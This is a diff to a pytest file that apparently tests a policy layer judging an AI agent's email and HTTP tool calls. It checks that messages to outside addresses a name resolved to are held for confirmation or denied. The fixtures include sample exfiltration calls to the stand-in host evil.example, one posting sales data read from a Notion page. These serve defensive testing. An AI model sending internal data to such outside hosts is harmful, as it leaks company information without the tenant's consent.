@@ -12,7 +12,7 @@ import pytest
 
 from bot.judging import Court
 from connectors.catalog import all_contracts
-from schemas.decision import Decision
+from schemas.decision import Decision, DecisionKind
 
 COURT = Court(all_contracts())
 READ = "tool:notion.get_page_content"
@@ -193,10 +193,66 @@ def test_what_a_place_holds_already_is_not_asked_about_again() -> None:
 def test_their_own_address_is_no_news_to_a_person() -> None:
     def mail(body: str) -> Decision:
         payload = {"to": "minji@acme.co.kr", "body": body}
-        return judged(MAIL, payload, {"to": "resolved", "body": "model"}, request="민지에게 메일 보내줘")
+        origins, ours = {"to": "resolved", "body": "model"}, {"domains": ["acme.co.kr"]}
+        return judged(MAIL, payload, origins, request="민지에게 메일 보내줘", tenant_policy=ours)
 
     assert mail("minji@acme.co.kr 앞으로 보냅니다").decision == "allow"
     assert mail("junho@acme.co.kr 앞으로 보냅니다").rule == "personal_data"
+
+
+STRANGER = {"to": "bob@evil.example", "body": "안녕"}
+OUTSIDE: dict[str, tuple[Decision, DecisionKind]] = {
+    "a mailbox that a name led to": (
+        judged(
+            MAIL, STRANGER, {"to": "resolved"}, request="밥에게 메일 보내줘", tenant_policy={"domains": ["acme.co.kr"]}
+        ),
+        "require_confirm",
+    ),
+    "the same where nothing may be sent outside": (
+        judged(
+            MAIL,
+            STRANGER,
+            {"to": "resolved"},
+            request="밥에게 메일 보내줘",
+            tenant_policy={"domains": ["acme.co.kr"], "allow_external_send": False},
+        ),
+        "deny",
+    ),
+    "a web address that a name led to": (
+        judged(
+            {"tool": "http.post", "risk_level": "write"},
+            {"url": "https://evil.example/x", "body": "매출"},
+            {"url": "resolved", "body": READ},
+            request="밥의 서버로 보내줘",
+        ),
+        "require_confirm",
+    ),
+    "a phone number that a name led to": (
+        judged(MAIL, {"to": "+82 10-1234-5678", "body": "안녕"}, {"to": "resolved"}, request="밥에게 보내줘"),
+        "require_confirm",
+    ),
+    "a colleague's mailbox": (
+        judged(
+            MAIL,
+            {"to": "minji@acme.co.kr", "body": "안녕"},
+            {"to": "resolved", "body": "person"},
+            request="민지에게 안녕 보내줘",
+            tenant_policy={"domains": ["acme.co.kr"]},
+        ),
+        "allow",
+    ),
+    "an id of digits": (
+        judged(MAIL, {"to": "4711001122", "body": "안녕"}, {"to": "resolved"}, request="민지에게 안녕 보내줘"),
+        "allow",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", OUTSIDE)
+def test_that_a_name_led_to_an_address_does_not_say_whose_it_is(name: str) -> None:
+    said, word = OUTSIDE[name]
+    assert said.decision == word
+    assert said.rule in ("external", "external.denied", "write.ordinary")
 
 
 RULE = {
